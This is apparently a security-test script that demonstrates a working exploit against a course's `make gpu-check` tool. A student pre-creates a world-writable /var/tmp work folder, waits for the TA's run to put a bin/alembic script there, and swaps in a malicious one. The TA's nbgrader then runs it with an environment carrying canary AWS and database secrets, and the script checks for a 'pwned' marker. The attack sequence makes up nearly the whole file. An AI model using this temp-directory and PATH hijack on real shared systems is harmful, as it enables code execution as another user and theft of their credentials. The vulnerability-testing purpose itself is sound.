"""a17: `make gpu-check` (tools/gpu_check.py) works in a fixed folder, /var/tmp/distcourse-gpu (sticky, world-writable
/var/tmp), made with os.makedirs(exist_ok=True): a folder a student made first is used as it is. Its bin/ goes first on
PATH, where the run writes the `alembic` script nbgrader's Gradebook runs. The student makes the folder (0777) before
the TA's run; the TA (uid 65534 standing for the GPU machine's root) runs prepare() as `make gpu-check NO_BUNDLE=1`
does; the student replaces bin/alembic (hers to replace: her folder); the TA's nbgrader then opens a gradebook."""
import os, subprocess, sys, time
W = "/var/tmp/distcourse-gpu"
assert not os.path.exists(W), "someone else's folder is there"
stu = lambda code: subprocess.run(["setpriv", "--reuid", "1001", "--regid", "1001", "--clear-groups", "/usr/bin/python3", "-c", code], capture_output=True, text=True, cwd="/")
print("student makes it first:", stu(f"import os; os.makedirs('{W}/bin'); os.chmod('{W}', 0o777); os.chmod('{W}/bin', 0o777); print('made')").stdout.strip())
ta_prepare = f"""
import json, os, sys, types
sys.path.insert(0, 'CLONE')
os.chdir('CLONE')
from tools import gpu_check
args = types.SimpleNamespace(workdir='{W}', no_bundle=True, bundle=None, bundle_bwrap=False)
env, summary = gpu_check.prepare(args)
json.dump(env, open('/tmp/attack52-user-home/a17_env.json', 'w'))
print('TA prepare():', summary, 'PATH starts', env['PATH'].split(':')[0])
"""
env = dict(os.environ, HOME="/tmp/attack52-user-home", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123", DATABASE_URL="postgresql://ta:secret@localhost/x")
TA = ["setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups"]
r = subprocess.run(TA + ["CLONE/.venv/bin/python", "-c", ta_prepare], env=env, capture_output=True, text=True)
print(r.stdout.strip(), r.stderr[-600:])
print("modes:", subprocess.run(f"ls -la {W} {W}/bin", shell=True, capture_output=True, text=True).stdout)
print("student swaps bin/alembic:", stu(f"import os, shutil; p = '{W}/bin/alembic'; os.rename(p, p + '.ta'); shutil.copy('tests/attacks/round52/user/a17_evil_alembic.sh', p); os.chmod(p, 0o755); print('swapped')").stdout.strip(), flush=True)
ta_grade = """
import json, os, subprocess, sys
env = json.load(open('/tmp/attack52-user-home/a17_env.json'))
os.environ.clear(); os.environ.update(env)
from nbgrader.api import Gradebook
gb = Gradebook('sqlite:////tmp/attack52-user-home/a17_gradebook.db'); gb.close()
print('TA opened a gradebook')
"""
r = subprocess.run(TA + ["CLONE/.venv/bin/python", "-c", ta_grade], env=env, capture_output=True, text=True, cwd=(__import__("os").environ.get("ATTACK_USER_CLONE") or __import__("os").path.abspath(__import__("os").path.join(__import__("os").path.dirname(__import__("os").path.abspath(__file__)), "..", "..", "..", ".."))))
print(r.stdout.strip(), r.stderr[-800:])
p = "/tmp/attack52-user-home/a17_pwned"
print("a17_pwned:", open(p).read().strip() if os.path.exists(p) else None)
subprocess.run(f"rm -rf {W} /tmp/attack52-user-home/a17_*", shell=True)
